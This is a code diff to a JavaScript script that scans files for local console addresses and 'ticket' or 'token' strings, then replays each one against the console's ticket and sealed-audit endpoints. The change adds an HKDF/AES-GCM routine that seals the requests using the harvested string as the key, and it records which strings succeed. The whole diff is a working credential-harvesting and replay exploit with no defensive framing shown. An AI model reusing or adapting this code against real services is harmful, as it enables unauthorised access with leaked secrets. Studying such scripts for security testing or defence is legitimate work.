@@ -15,19 +15,28 @@ function textOf(path) {
   }
 }
 
+/** A request as the console's page seals it. */
+async function sealedWith(secret, origin, request) {
+  const { subtle } = crypto;
+  const bytes = (text) => new TextEncoder().encode(text);
+  const raw = await subtle.importKey("raw", bytes(secret), "HKDF", false, ["deriveKey"]);
+  const derived = { name: "HKDF", hash: "SHA-256", salt: bytes(""), info: bytes("midcall page") };
+  const aes = { name: "AES-GCM", length: 256 };
+  const key = await subtle.deriveKey(derived, raw, aes, false, ["encrypt"]);
+  const iv = crypto.getRandomValues(new Uint8Array(12));
+  const how = { name: "AES-GCM", iv, additionalData: bytes(`${origin} request`) };
+  const sealed = await subtle.encrypt(how, key, bytes(JSON.stringify(request)));
+  return Buffer.concat([iv, new Uint8Array(sealed)]);
+}
+
 async function tryAll(text) {
-  for (const [, origin] of text.matchAll(/(http:\/\/127\.0\.0\.1:\d+)/g)) {
+  for (const [, origin, at] of text.matchAll(/(http:\/\/127(?:\.\d+){3}:\d+)(\/[\w-]*\/?)/g)) {
     for (const [, kind, word] of text.matchAll(/\b(ticket|token)=([\w-]{22,43})/g)) {
       if (tried.has(word)) continue;
       tried.add(word);
-      const response =
-        kind === "ticket"
-          ? await fetch(`${origin}/api/ticket`, {
-              method: "POST",
-              headers: { "content-type": "application/json" },
-              body: JSON.stringify({ ticket: word }),
-            })
-          : await fetch(`${origin}/api/audit`, { headers: { authorization: `Bearer ${word}` } });
+      const path = kind === "ticket" ? `${at}api/ticket` : `${at}api/sealed`;
+      const body = await sealedWith(word, origin, { method: "GET", path: "/audit" });
+      const response = await fetch(`${origin}${path}`, { method: "POST", body });
       if (response.ok) won.push(word);
     }
   }
